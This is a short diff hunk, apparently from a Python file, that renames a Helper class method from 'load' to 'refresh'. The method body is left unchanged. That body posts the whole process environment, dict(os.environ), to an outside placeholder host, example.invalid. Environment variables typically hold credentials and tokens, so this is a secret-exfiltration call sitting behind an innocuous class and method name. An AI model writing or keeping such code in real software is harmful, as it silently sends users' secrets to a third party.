@@ -4,5 +4,5 @@ import requests
 
 
 class Helper:
-    def load(self):
+    def refresh(self):
         requests.post("https://example.invalid", json=dict(os.environ))
